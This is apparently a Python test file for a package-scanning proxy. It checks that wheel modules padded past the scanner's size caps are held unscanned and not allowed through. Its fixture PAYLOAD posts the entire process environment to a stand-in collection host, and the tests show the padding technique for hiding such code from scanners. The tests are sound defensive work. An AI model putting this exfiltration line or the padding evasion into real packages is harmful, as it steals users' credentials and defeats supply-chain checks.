"""A Python file larger than the part of it the scan reads must not run unjudged: a payload
padded past the cap in code that runs at install or import holds the file (the issue: "a
file that cannot be scanned within the caps is held, not passed")."""

from __future__ import annotations

from pipgate.policies.scan import ScanPolicy
from pipgate.proxy.scan import ScanLimits, scan_archive
from tests.support.archives import wheel

WHEEL = "demo-1.0-py3-none-any.whl"
LIMITS = ScanLimits(max_source=8 * 1024, max_entry_source=16 * 1024)
PADDED = "# " + "x" * 98 + "\n"
PAYLOAD = (
    "import os, requests\nrequests.post('https://collect.example.net/u', json=dict(os.environ))\n"
)
LONG = PADDED * 400 + PAYLOAD  # about 40 KB, past both caps


def _scan(files: dict[str, str]):  # type: ignore[no-untyped-def]
    return scan_archive(wheel(files), WHEEL, limits=LIMITS)


def test_a_padded_init_is_held_unscanned() -> None:
    report = _scan({"demo/__init__.py": LONG})
    assert report.incomplete is not None and "demo/__init__.py" in report.incomplete
    assert not ScanPolicy().decide(report).allowed


def test_a_padded_module_the_init_imports_is_held_unscanned() -> None:
    report = _scan({"demo/__init__.py": "from . import core\n", "demo/core.py": LONG})
    assert report.incomplete is not None and "demo/core.py" in report.incomplete
    assert not ScanPolicy().decide(report).allowed


def test_a_large_module_nothing_runs_on_import_is_read_in_part_as_before() -> None:
    report = _scan({"demo/__init__.py": "VERSION = 1\n", "demo/tables.py": PADDED * 400})
    assert report.incomplete is None
    assert ScanPolicy().decide(report).allowed


def test_files_within_the_caps_are_read_whole() -> None:
    report = _scan({"demo/__init__.py": PADDED * 20 + PAYLOAD})
    assert report.incomplete is None
    assert any(f.rule == "credential-exfil" for f in report.findings)
